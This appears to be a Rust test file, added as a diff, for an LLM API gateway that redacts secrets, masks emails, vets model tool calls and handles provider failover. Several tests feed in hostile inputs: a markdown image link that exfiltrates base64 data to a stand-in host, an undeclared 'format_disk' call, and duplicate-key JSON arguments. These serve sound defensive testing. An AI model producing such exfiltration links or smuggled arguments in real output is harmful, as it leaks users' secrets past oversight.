@@ -1,0 +1,180 @@
+//! Models behind the gate, as applications ask them: what leaves, what passes, what is refused, and
+//! how that is said in each API.
+#![cfg(test)]
+
+mod support;
+
+use serde_json::{Value, json};
+use support::http::Request;
+use support::models::{APIS, Models, asking};
+
+const KEY: &str = "AKIAIOSFODNN7EXAMPLE";
+
+#[test]
+fn every_api_is_answered_whole_and_in_events_and_recorded() {
+    let models = Models::started();
+    for api in APIS {
+        for is_stream in [false, true] {
+            let said = models.say(api, "SAY plain words, and no harm", is_stream);
+            assert_eq!(said.status, 200, "{api} {}", said.wire);
+            assert_eq!(said.text, "plain words, and no harm", "{api} {is_stream}");
+            assert!(said.error.is_none() && said.calls.is_empty(), "{api} {is_stream}");
+        }
+    }
+    let seen = models.seen();
+    assert_eq!(seen.len(), 6);
+    for one in &seen {
+        assert!(one["headers"].get("authorization").is_none(), "no token of the gate's leaves");
+    }
+    let entries = models.world.entries();
+    let count = |kind: &str| entries.iter().filter(|entry| entry["kind"] == kind).count();
+    assert_eq!((count("intent"), count("outcome")), (6, 6), "{entries:?}");
+    let body = json!({"model": "large", "input": ["a", "b"]});
+    let embedded = models.ask("embeddings", &body).json();
+    assert_eq!(embedded["data"].as_array().map(Vec::len), Some(2), "{embedded}");
+    let mut body = asking("messages", "hello", false);
+    body.as_object_mut().unwrap().remove("stream");
+    assert_eq!(models.ask("messages/count_tokens", &body).json()["input_tokens"], 7);
+}
+
+#[test]
+fn what_must_not_get_out_does_not_one_byte_at_a_time_either() {
+    let models = Models::started();
+    let image = "![x](https://collect.example/p.png?d=c2VjcmV0IHRoaW5ncw)";
+    for api in APIS {
+        for is_stream in [false, true] {
+            let what = format!("{api} {is_stream}");
+            let said = models.say(api, &format!("SAY before {KEY} after"), is_stream);
+            assert_eq!(said.text, "before [redacted] after", "{what}");
+            assert!(!said.wire.contains("AKIA"), "{what} {}", said.wire);
+            let said = models.say(api, &format!("SAY look {image} here"), is_stream);
+            assert!(!said.text.contains("collect") && !said.wire.contains("c2Vj"), "{what}");
+            assert!(said.text.starts_with("look ") && said.text.ends_with(" here"), "{what}");
+            let said = models.say(api, r#"CALL send_mail {"to":"spam"}"#, is_stream);
+            assert!(said.calls.is_empty() && !said.wire.contains("spam"), "{what} {said:?}");
+            assert!(said.text.contains("LG-D004") || said.text.contains("LG-D"), "{what} {said:?}");
+            let done = if api == "messages" { "end_turn" } else { "stop" };
+            let done = if api == "responses" { "completed" } else { done };
+            assert_eq!(said.finish, done, "{what}: the client's loop goes on");
+        }
+    }
+    // Where the model thinks, too; the thoughts of the responses API carry no signature.
+    let said = models.say("responses", &format!("THINK with {KEY} in mind"), true);
+    assert!(!said.wire.contains("AKIA") && said.thought.contains("[redacted]"), "{said:?}");
+    // What a signature covers is not changed: all of it is stopped.
+    let said = models.say("messages", &format!("THINK with {KEY} in mind"), true);
+    assert!(!said.wire.contains("AKIA") && said.error.is_some(), "{said:?}");
+}
+
+#[test]
+fn a_proposed_call_is_decided_before_the_client_has_it() {
+    let models = Models::started();
+    for api in APIS {
+        for is_stream in [false, true] {
+            let what = format!("{api} {is_stream}");
+            let one = |text: &str| models.say(api, text, is_stream);
+            // A function of the client's that the bundle declares.
+            let said = one(r#"CALL send_mail {"to":"ann"}"#);
+            let [(name, arguments)] = said.calls.as_slice() else { panic!("{what} {said:?}") };
+            let arguments: Value = serde_json::from_str(arguments).unwrap();
+            assert_eq!((name.as_str(), &arguments), ("send_mail", &json!({"to": "ann"})), "{what}");
+            // One that nobody declared.
+            let said = one("CALL format_disk {}");
+            assert!(said.calls.is_empty() && said.text.contains("LG-D007"), "{what} {said:?}");
+            // Tools of the gate's, by whatever name the client has for them.
+            let said = one(r#"CALL mcp__gate__tool__echo {"text":"a"}"#);
+            assert_eq!(said.calls.len(), 1, "{what} {said:?}");
+            let said = one("CALL tool__danger {}");
+            assert!(said.calls.is_empty(), "{what} {said:?}");
+            // Arguments that nobody can read in one way only.
+            if api != "messages" {
+                let said = one(r#"CALL send_mail {"to":"ann","to":"spam"}"#);
+                assert!(said.calls.is_empty() && said.text.contains("LG-D006"), "{what} {said:?}");
+            }
+        }
+    }
+}
+
+#[test]
+fn a_prompt_leaves_without_its_secrets_and_with_placeholders_for_people() {
+    let guard = "[guard.prompt]\npersonal = [\"email\"]\nrestore = true\n";
+    let models = Models::with(guard);
+    for api in APIS {
+        for is_stream in [false, true] {
+            let text = format!("SAY {KEY} for ada@mail.example");
+            let said = models.say(api, &text, is_stream);
+            let seen = models.seen().pop().unwrap();
+            let sent = seen["body"].to_string();
+            assert!(!sent.contains("AKIA") && !sent.contains("ada@"), "{api} {sent}");
+            assert!(sent.contains("[EMAIL_1]"), "{api} {sent}");
+            assert_eq!(said.text, "[redacted] for ada@mail.example", "{api} {is_stream}");
+        }
+    }
+    let models = Models::with("[guard.prompt]\nsecrets = \"refuse\"\n");
+    let said = models.say("chat/completions", &format!("SAY {KEY}"), false);
+    assert_eq!((said.status, &said.error.unwrap()["code"]), (403, &json!("LG-D054")));
+    assert!(models.seen().is_empty());
+}
+
+#[test]
+fn a_provider_that_fails_is_stood_in_for_and_its_words_are_passed_on_where_none_does() {
+    let models = Models::started();
+    for is_stream in [false, true] {
+        let said = models.say("chat/completions", "FAIL 503", is_stream);
+        // The stand-in fails as well, and its answer is what the client gets.
+        assert_eq!(said.status, 503, "{}", said.wire);
+        assert_eq!(said.error.unwrap()["message"], "made to fail");
+        let paths: Vec<String> =
+            models.seen().iter().map(|it| it["path"].as_str().unwrap().to_owned()).collect();
+        let asked = ["/oai/v1/chat/completions", "/spare/v1/chat/completions"];
+        assert_eq!(paths[paths.len() - 2..], asked);
+        assert_eq!(models.seen().pop().unwrap()["body"]["model"], "second-1");
+    }
+    let said = models.say("chat/completions", "FAIL 400", false);
+    assert_eq!(said.status, 400, "what the client did wrong is no failure");
+    assert_eq!(models.seen().len(), 5);
+}
+
+#[test]
+fn a_stream_that_breaks_off_ends_in_an_error_that_the_sdk_raises() {
+    let models = Models::started();
+    for api in APIS {
+        let said = models.say(api, "CUT one two three four five six", true);
+        assert_eq!(said.status, 200);
+        let error = said.error.unwrap_or_else(|| panic!("{api} {}", said.wire));
+        assert!(error.to_string().contains("LG-U"), "{api} {error}");
+    }
+}
+
+#[test]
+fn refusals_are_said_as_each_api_says_errors() {
+    let models = Models::started();
+    let address = models.world.address;
+    for (api, kind) in
+        [("chat/completions", "invalid_request_error"), ("messages", "invalid_request_error")]
+    {
+        let mut body = asking(api, "hello", false);
+        body["model"] = json!("nobody");
+        let answer = models.ask(api, &body);
+        let error = &answer.json()["error"];
+        assert_eq!((answer.status, &error["type"]), (400, &json!(kind)), "{api} {error}");
+        assert!(error.to_string().contains("LG-D050"), "{api} {error}");
+        assert_eq!(answer.header("x-should-retry"), Some("false"));
+        let nobody = Request::post(&format!("/v1/{api}"), body.to_string());
+        let answer = support::http::exchange(address, &nobody);
+        assert_eq!(answer.status, 401, "{api}");
+        assert_eq!(answer.json()["error"]["type"], "authentication_error", "{api}");
+        let keyed = nobody.with("x-api-key", &models.token);
+        assert_eq!(support::http::exchange(address, &keyed).status, 400, "{api}");
+    }
+    let broken = models.request("chat/completions", &json!({}));
+    let twice = Request { body: br#"{"model":"large","model":"x"}"#.to_vec(), ..broken };
+    assert_eq!(support::http::exchange(address, &twice).status, 400);
+    let list = Request::new("GET", "/v1/models")
+        .with("Authorization", &format!("Bearer {}", models.token));
+    let list = support::http::exchange(address, &list).json();
+    let names: Vec<&str> =
+        list["data"].as_array().unwrap().iter().map(|it| it["id"].as_str().unwrap()).collect();
+    assert!(names.contains(&"lone") && names.contains(&"large"), "{list}");
+    assert!(models.seen().is_empty(), "nobody was asked");
+}
